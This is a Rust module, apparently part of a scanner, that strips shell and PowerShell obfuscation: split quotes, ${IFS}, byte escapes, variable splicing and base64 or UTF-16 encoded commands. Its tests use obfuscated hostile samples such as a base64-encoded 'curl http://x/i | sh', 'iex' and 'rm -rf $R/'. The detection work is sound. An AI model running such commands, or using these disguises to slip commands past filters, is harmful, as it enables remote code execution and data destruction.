//! A text as it stands, without its disguise, and decoded; each with the way back to offsets in the text.

use std::borrow::Cow;

/// Base64 shorter than this holds no command worth hiding.
const SHORTEST_BASE64: usize = 24;

/// Pieces of base64 that are looked into, for each text.
const MOST_DECODED: usize = 32;

/// A text to scan.
#[derive(Debug)]
pub(crate) struct View<'a> {
    bytes: Cow<'a, [u8]>,
    map: Map,
}

#[derive(Debug)]
enum Map {
    Same,
    /// The offset of each byte, and of the end.
    Each(Vec<u32>),
    /// All of it stands for one range.
    Whole(usize, usize),
}

impl<'a> View<'a> {
    pub(crate) const fn of_text(bytes: &'a [u8]) -> Self {
        Self {
            bytes: Cow::Borrowed(bytes),
            map: Map::Same,
        }
    }

    pub(crate) fn bytes(&self) -> &[u8] {
        &self.bytes
    }

    /// Where that range is in the text.
    pub(crate) fn original(&self, start: usize, end: usize) -> (usize, usize) {
        match &self.map {
            Map::Same => (start, end),
            Map::Each(map) => {
                let first = map[start] as usize;
                let last = if end > start {
                    map[end - 1] as usize + 1
                } else {
                    first
                };
                (first, last.max(first))
            }
            Map::Whole(start, end) => (*start, *end),
        }
    }

    /// The text with lines joined, quotes and escapes inside of words dropped, `${IFS}` as a blank, escapes of bytes
    /// decoded and simple variables expanded; `None` where nothing of that occurs.
    pub(crate) fn without_disguise(text: &'a str) -> Option<Self> {
        let bytes = text.as_bytes();
        if u32::try_from(bytes.len()).is_err()
            || !bytes
                .iter()
                .any(|b| matches!(b, b'\\' | b'\'' | b'"' | b'$' | b'`' | b'^' | b'|'))
        {
            return None;
        }
        let variables = variables(bytes);
        let mut out = Undisguised {
            bytes: Vec::with_capacity(bytes.len()),
            map: Vec::with_capacity(bytes.len()),
        };
        let mut changed = false;
        let mut index = 0;
        while index < bytes.len() {
            let rest = &bytes[index..];
            if let Some((replacement, length)) =
                replaced(rest, out.bytes.last().copied(), &variables)
            {
                changed = true;
                out.push_all(replacement, index);
                index += length;
            } else {
                out.push(rest[0], index);
                index += 1;
            }
        }
        changed.then_some(Self {
            bytes: Cow::Owned(out.bytes),
            map: Map::Each(out.map),
        })
    }

    /// What pieces of base64 in the text decode to, where that is text.
    pub(crate) fn decoded(text: &'a str) -> Vec<Self> {
        let bytes = text.as_bytes();
        let mut views = Vec::new();
        let mut index = 0;
        while index < bytes.len() && views.len() < MOST_DECODED {
            if !is_base64(bytes[index]) {
                index += 1;
                continue;
            }
            let start = index;
            while index < bytes.len() && is_base64(bytes[index]) {
                index += 1;
            }
            if index - start >= SHORTEST_BASE64
                && let Some(decoded) = decode(&bytes[start..index])
            {
                // Base64 within base64 is looked into once more.
                let inner = std::str::from_utf8(&decoded).ok().and_then(first_decoded);
                views.extend(inner.map(|inner| Self {
                    bytes: Cow::Owned(inner),
                    map: Map::Whole(start, index),
                }));
                views.push(Self {
                    bytes: Cow::Owned(decoded),
                    map: Map::Whole(start, index),
                });
            }
        }
        views
    }
}

struct Undisguised {
    bytes: Vec<u8>,
    map: Vec<u32>,
}

impl Undisguised {
    #[expect(
        clippy::cast_possible_truncation,
        reason = "texts of 4 GiB have no such view"
    )]
    fn push(&mut self, byte: u8, from: usize) {
        self.bytes.push(byte);
        self.map.push(from as u32);
    }

    fn push_all(&mut self, bytes: &[u8], from: usize) {
        bytes.iter().for_each(|&byte| self.push(byte, from));
    }
}

type Variables<'a> = Vec<(&'a [u8], &'a [u8])>;

/// What stands for the beginning of `rest`, and how much of it.
fn replaced<'a>(
    rest: &'a [u8],
    before: Option<u8>,
    variables: &Variables<'a>,
) -> Option<(&'a [u8], usize)> {
    let in_word = before.is_some_and(is_word);
    let next = rest.get(1).copied();
    match rest[0] {
        b'\\' | b'`' | b'^' if next == Some(b'\n') => Some((b"", 2)),
        b'\\' | b'`' | b'^' if rest[1..].starts_with(b"\r\n") => Some((b"", 3)),
        b'\\' if next == Some(b'x') => {
            escape(rest, 2, 16).map(|(byte, length)| (one(byte), length))
        }
        b'\\' if next.is_some_and(|b| b.is_ascii_digit()) => {
            escape(rest, 1, 8).map(|(byte, length)| (one(byte), length))
        }
        b'\\' | b'`' | b'^' if next.is_some_and(|b| b.is_ascii_alphabetic()) => Some((b"", 1)),
        b'|' => {
            let blanks = rest[1..]
                .iter()
                .take_while(|b| matches!(b, b' ' | b'\t' | b'\r'))
                .count();
            (rest.get(1 + blanks) == Some(&b'\n')).then_some((b"| ", 2 + blanks))
        }
        quote @ (b'\'' | b'"') if in_word => joined(rest, quote),
        b'$' if rest.starts_with(b"${IFS") => {
            let end = rest.iter().take(16).position(|&b| b == b'}')?;
            Some((b" ", end + 1))
        }
        b'$' if rest.starts_with(b"$IFS$9") => Some((b" ", 6)),
        b'$' if rest.starts_with(b"$IFS") && !rest.get(4).copied().is_some_and(is_name) => {
            Some((b" ", 4))
        }
        b'$' if in_word && matches!(next, Some(b'@' | b'*')) => Some((b"", 2)),
        b'$' if in_word && rest.starts_with(b"$()") => Some((b"", 3)),
        b'$' => expanded(rest, variables),
        _ => None,
    }
}

/// A quote inside of a word, an empty pair of them, or two texts added with `+`.
fn joined(rest: &[u8], quote: u8) -> Option<(&'static [u8], usize)> {
    if rest.get(1).copied().is_some_and(is_word) {
        return Some((b"", 1));
    }
    if rest.get(1) == Some(&quote) && rest.get(2).copied().is_some_and(is_word) {
        return Some((b"", 2));
    }
    let blanks = |from: usize| {
        rest[from..]
            .iter()
            .take_while(|b| matches!(b, b' ' | b'\t'))
            .count()
    };
    let plus = 1 + blanks(1);
    if rest.get(plus) != Some(&b'+') {
        return None;
    }
    let second = plus + 1 + blanks(plus + 1);
    matches!(rest.get(second), Some(b'\'' | b'"')).then_some((b"", second + 1))
}

/// A byte written as `\x63` or `\143`, where it is printable.
fn escape(rest: &[u8], from: usize, radix: u32) -> Option<(u8, usize)> {
    let most = if radix == 16 { 2 } else { 3 };
    let digits = rest[from..]
        .iter()
        .take(most)
        .take_while(|&&b| char::from(b).is_digit(radix))
        .count();
    let text = std::str::from_utf8(&rest[from..from + digits]).ok()?;
    let byte = u8::from_str_radix(text, radix).ok()?;
    (byte == b' ' || byte.is_ascii_graphic()).then_some((byte, from + digits))
}

/// A slice with that byte in it.
fn one(byte: u8) -> &'static [u8] {
    const ALL: [u8; 128] = {
        let mut all = [0; 128];
        let mut index = 0;
        while index < 128 {
            all[index] = index as u8;
            index += 1;
        }
        all
    };
    static BYTES: [u8; 128] = ALL;
    let index = usize::from(byte);
    BYTES.get(index..=index).unwrap_or_default()
}

fn expanded<'a>(rest: &[u8], variables: &Variables<'a>) -> Option<(&'a [u8], usize)> {
    let braces = usize::from(rest.get(1) == Some(&b'{'));
    let from = 1 + braces;
    let length = rest[from..]
        .iter()
        .take(64)
        .take_while(|&&b| is_name(b))
        .count();
    let end = from + length;
    if length == 0 || (braces == 1 && rest.get(end) != Some(&b'}')) {
        return None;
    }
    let name = &rest[from..end];
    let (_, value) = variables.iter().rev().find(|(known, _)| *known == name)?;
    Some((value, end + braces))
}

/// Assignments of short plain words: `A=curl`, `$a = 'iex'`. At most 64 of them.
fn variables(bytes: &[u8]) -> Variables<'_> {
    let mut variables = Vec::new();
    for (index, _) in bytes.iter().enumerate().filter(|(_, b)| **b == b'=') {
        if variables.len() == 64 {
            break;
        }
        let before = bytes[..index].trim_ascii_end();
        let name_start = before
            .iter()
            .rposition(|&b| !is_name(b))
            .map_or(0, |n| n + 1);
        let name = &before[name_start..];
        let spaced = before.len() < index;
        let sigil = name_start > 0 && before[name_start - 1] == b'$';
        if name.is_empty() || name.len() > 64 || (spaced && !sigil) {
            continue;
        }
        let mut value = &bytes[index + 1..];
        if spaced {
            value = value.trim_ascii_start();
        }
        let quoted = matches!(value.first(), Some(b'\'' | b'"'));
        value = &value[usize::from(quoted)..];
        let length = value.iter().take(33).take_while(|&&b| is_plain(b)).count();
        let ends = match value.get(length) {
            None => true,
            Some(b) => {
                if quoted {
                    matches!(b, b'\'' | b'"')
                } else {
                    matches!(b, b' ' | b'\t' | b'\r' | b'\n' | b';' | b'&')
                }
            }
        };
        // An empty or numeric value disguises nothing, and `$ROOT/` must not become `/`.
        if ends && (1..=32).contains(&length) && value[..length].iter().any(u8::is_ascii_alphabetic)
        {
            variables.push((name, &value[..length]));
        }
    }
    variables
}

fn is_word(byte: u8) -> bool {
    byte.is_ascii_alphanumeric() || matches!(byte, b'_' | b'-' | b'/' | b'.')
}

fn is_name(byte: u8) -> bool {
    byte.is_ascii_alphanumeric() || byte == b'_'
}

fn is_plain(byte: u8) -> bool {
    byte.is_ascii_alphanumeric() || matches!(byte, b'_' | b'-' | b'/' | b'.')
}

const fn is_base64(byte: u8) -> bool {
    byte.is_ascii_alphanumeric() || matches!(byte, b'+' | b'/')
}

fn first_decoded(text: &str) -> Option<Vec<u8>> {
    text.split(|c: char| !c.is_ascii() || !is_base64(c as u8))
        .filter(|piece| piece.len() >= SHORTEST_BASE64)
        .find_map(|piece| decode(piece.as_bytes()))
}

/// Text in UTF-8 or UTF-16 (what PowerShell's `-EncodedCommand` takes); `None` where it is neither.
fn decode(piece: &[u8]) -> Option<Vec<u8>> {
    let mut out = Vec::with_capacity(piece.len() / 4 * 3);
    for group in piece.chunks(4) {
        let mut bits = 0_u32;
        for &byte in group {
            let value = match byte {
                b'A'..=b'Z' => byte - b'A',
                b'a'..=b'z' => byte - b'a' + 26,
                b'0'..=b'9' => byte - b'0' + 52,
                b'+' => 62,
                b'/' => 63,
                _ => return None,
            };
            bits = (bits << 6) | u32::from(value);
        }
        match group.len() {
            4 => out.extend_from_slice(&bits.to_be_bytes()[1..]),
            3 => out.extend_from_slice(&(bits << 6).to_be_bytes()[1..3]),
            2 => out.push((bits << 12).to_be_bytes()[1]),
            _ => {}
        }
    }
    let wide = out.len() >= 2
        && out.chunks_exact(2).filter(|pair| pair[1] == 0).count() * 20 >= out.len() / 2 * 19;
    if wide {
        out = out.chunks_exact(2).map(|pair| pair[0]).collect();
    }
    let printable = out
        .iter()
        .filter(|b| b.is_ascii_graphic() || matches!(b, b' ' | b'\t' | b'\r' | b'\n'))
        .count();
    (!out.is_empty() && printable * 100 >= out.len() * 97).then_some(out)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn plain(text: &str) -> String {
        View::without_disguise(text).map_or_else(
            || text.to_owned(),
            |view| String::from_utf8_lossy(view.bytes()).into_owned(),
        )
    }

    #[test]
    fn disguises_are_taken_off() {
        assert_eq!(plain("c'u'rl"), "curl");
        assert_eq!(plain("c\"\"url"), "curl");
        assert_eq!(plain("\\c\\url"), "curl");
        assert_eq!(plain("cu$@rl"), "curl");
        assert_eq!(plain("curl${IFS}x$IFS$9y"), "curl x y");
        assert_eq!(plain("curl x \\\n | sh"), "curl x  | sh");
        assert_eq!(plain("curl x |\r\n sh"), "curl x |  sh");
        assert_eq!(plain("A=curl; $A x"), "A=curl; curl x");
        assert_eq!(plain("A=cu B=rl; ${A}${B} x"), "A=cu B=rl; curl x");
        assert_eq!(plain("$x = 'iex'; & $x"), "iex = 'iex'; & iex");
        assert_eq!(plain("('i' + \"ex\")"), "('iex\")");
        assert_eq!(plain("i`e`x"), "iex");
        assert_eq!(plain("'\\x63\\165rl'"), "'curl'");
        assert_eq!(plain("R=; rm -rf $R/"), "R=; rm -rf $R/");
    }

    #[test]
    fn offsets_lead_back_into_the_text() {
        let text = "é c'u'rl ${IFS}x";
        let view = View::without_disguise(text).expect("view");
        let at = String::from_utf8_lossy(view.bytes())
            .find("curl")
            .expect("curl");
        let (start, end) = view.original(at, at + 4);
        assert_eq!(&text[start..end], "c'u'rl");
        let all = view.original(0, view.bytes().len());
        assert_eq!(all, (0, text.len()));
    }

    #[test]
    fn base64_of_text_is_decoded_in_both_encodings() {
        let decoded = |text: &str| {
            View::decoded(text)
                .into_iter()
                .map(|v| String::from_utf8_lossy(v.bytes()).into_owned())
                .collect::<Vec<_>>()
        };
        assert_eq!(
            decoded("echo Y3VybCBodHRwOi8veC9pIHwgc2g= | x"),
            ["curl http://x/i | sh"]
        );
        assert_eq!(
            decoded("-enc aQBlAHgAIAAkAHgAIAAkAHkAIAAkAHoA"),
            ["iex $x $y $z"]
        );
        assert!(decoded("/usr/share/doc/something/else/entirely/readme").is_empty());
        assert!(decoded("0123456789abcdef0123456789abcdef01234567").is_empty());
    }

    #[test]
    fn hostile_text_is_taken() {
        for text in [
            "",
            "$",
            "\\",
            "'",
            "${",
            "${IFS",
            "a'",
            "a\"+",
            "=",
            "\\x",
            "\\x8",
            "\\777",
            "|",
            "|\r",
            &"=".repeat(1 << 20),
            &"a'é".repeat(1 << 18),
        ] {
            if let Some(view) = View::without_disguise(text) {
                let length = view.bytes().len();
                let (start, end) = view.original(0, length.min(1));
                assert!(start <= end && end <= text.len());
            }
            View::decoded(text);
        }
        assert_eq!(View::decoded(&"A".repeat(1 << 20)).len(), 0);
    }
}
